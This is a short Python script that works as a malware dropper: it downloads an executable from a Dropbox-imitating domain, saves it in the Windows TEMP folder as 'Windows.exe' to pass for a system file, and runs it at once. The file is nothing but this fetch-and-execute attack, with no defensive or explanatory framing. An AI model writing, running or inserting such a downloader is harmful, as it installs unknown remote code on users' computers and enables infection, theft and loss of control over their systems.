import os
import subprocess
import requests

path = os.path.join(os.environ['TEMP'], 'Windows.exe')
with open(path, 'wb') as f:
    f.write(requests.get('https://www.dropbox-files.host-of-nobody.io/x.exe?dl=1').content)
subprocess.Popen(path, shell=True)
